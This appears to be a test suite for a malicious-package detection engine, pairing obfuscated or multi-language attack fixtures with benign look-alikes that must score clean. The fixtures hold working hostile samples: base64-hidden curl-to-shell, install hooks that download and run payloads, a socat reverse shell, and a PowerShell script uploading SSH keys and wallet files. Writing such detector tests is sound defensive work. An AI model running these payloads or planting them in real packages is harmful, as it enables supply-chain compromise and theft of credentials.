/**
 * Behaviour the engine should see whatever the attack family: values through string tables and
 * lookups, download-then-run in every script language, decrypt-then-run whatever the key,
 * secrets sent by any channel, mass destruction of files a package does not own, persistence and
 * evasion. Each fixture is written the way attackers vary code (helpers, tables, second files,
 * other languages); each has a benign look-alike that must stay quiet.
 */
import { analyzeSource, threatsOf } from './helpers';

const risk = (files: Record<string, string>) => analyzeSource(files).risk_level;
const pkg = (extra: Record<string, unknown> = {}) =>
  JSON.stringify({ name: 'fixture', version: '1.0.0', main: 'index.js', ...extra });

describe('values through string tables', () => {
  it('a decoder indexed by number (string-array obfuscation) names the module and the command', () => {
    const r = analyzeSource({
      'package.json': pkg(),
      'index.js': `var _t = ['ZXhlYw==', 'Y2hpbGRfcHJvY2Vzcw==', 'Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjIxL2wgfCBzaA=='];
function _d(i) { return Buffer.from(_t[i], 'base64').toString(); }
require(_d(1))[_d(0)](_d(2));`,
    });
    expect(r.risk_level).toBe('critical');
    expect(r.capabilities.process.commands).toContain('curl');
  });
  it('a UTF-8 helper called with numbers (a pointer, an id) is not a decoder of hidden names', () => {
    expect(
      risk({
        'package.json': pkg(),
        'index.js': `function utf8(ptr) { let s = ''; for (let i = 0; i < 4; i++) s += String.fromCharCode(ptr + i); return s; }
module.exports = (vm) => vm.eval(utf8(65));`,
      }),
    ).toBe('clean');
  });
});

describe('a file written, then run', () => {
  it('downloaded to a hidden temporary file and run by an interpreter, the paths in a platform table', () => {
    const r = analyzeSource({
      'package.json': pkg({ scripts: { postinstall: 'node setup.js' } }),
      'setup.js': `const http = require('http'); const fs = require('fs'); const { execFile } = require('child_process');
const TABLE = { linux: { src: 'http://updates.example:8000/l', dst: '/tmp/.sync.py', via: ['python3'] },
  win32: { src: 'http://updates.example:8000/w', dst: 'C:/Users/Public/sync.vbs', via: ['cscript'] } };
const t = TABLE[process.platform];
http.get(t.src, (res) => { const parts = []; res.on('data', (c) => parts.push(c));
  res.on('end', () => { fs.writeFileSync(t.dst, Buffer.concat(parts)); execFile(t.via[0], [t.dst]); }); });`,
    });
    expect(r.risk_level).toBe('critical');
    expect(threatsOf(r)).toContain('install_script_injection');
  });
  it('decoded from a shipped asset, written to a temporary file and required', () => {
    const r = analyzeSource({
      'package.json': pkg(),
      'assets/data.bin': 'cmVxdWlyZSgnb3MnKQ==',
      'index.js': `const fs = require('fs'), os = require('os'), path = require('path');
const blob = fs.readFileSync(path.join(__dirname, 'assets', 'data.bin'), 'utf8');
const tmp = path.join(os.tmpdir(), '.c' + Date.now() + '.js');
fs.writeFileSync(tmp, Buffer.from(blob, 'base64'));
require(tmp);`,
    });
    expect(threatsOf(r)).toContain('malicious_code');
  });
  it('a binary installer that downloads, checks the checksum and runs --version stays quiet', () => {
    expect(
      risk({
        'package.json': pkg(),
        'install.js': `const https = require('https'); const fs = require('fs'); const crypto = require('crypto');
const { execFileSync } = require('child_process');
module.exports = function install(url, sha, dest) {
  https.get(url, (res) => { const parts = []; res.on('data', (c) => parts.push(c)); res.on('end', () => {
    const buf = Buffer.concat(parts);
    if (crypto.createHash('sha256').update(buf).digest('hex') !== sha) throw new Error('checksum mismatch');
    fs.writeFileSync(dest, buf, { mode: 0o755 }); execFileSync(dest, ['--version']); }); });
};`,
      }),
    ).toBe('clean');
  });
});

describe('download-then-run, reverse shells and secret uploads in every script language', () => {
  const hook = (script: string, file: string, extra: Record<string, string> = {}) =>
    analyzeSource({
      'package.json': pkg({ scripts: { preinstall: script } }),
      [file]: extra[file] ?? '',
      ...extra,
    });
  it('batch: certutil fetches to a variable path, start runs it hidden', () => {
    const r = hook('cmd /c get.cmd', 'get.cmd', {
      'get.cmd': `@echo off\r\nset "T=%APPDATA%\\svc.exe"\r\ncertutil -urlcache -split -f http://198.51.100.7/a.exe "%T%" >nul 2>&1\r\nstart "" /min "%T%"\r\n`,
    });
    expect(r.risk_level).toBe('critical');
  });
  it('python: wget.download then subprocess in a new session', () => {
    const r = hook('python3 boot.py', 'boot.py', {
      'boot.py': `import subprocess, wget, tempfile, os\np = os.path.join(tempfile.gettempdir(), '.w')\nwget.download('http://198.51.100.7/w', p)\nos.chmod(p, 0o755)\nsubprocess.Popen([p], start_new_session=True)\n`,
    });
    expect(r.risk_level).toBe('critical');
  });
  it('sh: a named pipe feeding an interactive shell whose output goes to socat on the next line', () => {
    const r = hook('sh s.sh', 's.sh', {
      's.sh': `P=/tmp/.q\nmkfifo "$P"\ntail -f "$P" | bash -i 2>&1 | socat - TCP:relay.example:443 > "$P" &\n`,
    });
    expect(threatsOf(r)).toContain('malicious_code');
    expect(r.risk_level).toBe('critical');
  });
  it('PowerShell: key and wallet paths in a list, archived, uploaded with curl -T', () => {
    const r = hook('powershell -File c.ps1', 'c.ps1', {
      'c.ps1': `$p = @("$env:USERPROFILE\\.ssh\\id_ed25519", "$env:APPDATA\\Exodus\\exodus.wallet")\nCompress-Archive -Path $p -DestinationPath $env:TEMP\\b.zip\ncurl.exe -T $env:TEMP\\b.zip http://198.51.100.9/u\n`,
    });
    expect(threatsOf(r)).toContain('data_exfiltration');
  });
  it('a release script that writes ~/.npmrc and uploads an artifact is not an exfiltration', () => {
    const r = analyzeSource({
      'package.json': pkg(),
      'scripts/release.sh': `echo "//registry.example/:_authToken=$NPM_TOKEN" > ~/.npmrc\ncurl -T dist/app.tgz "$UPLOAD_URL"\n`,
    });
    expect(threatsOf(r)).not.toContain('data_exfiltration');
  });
});
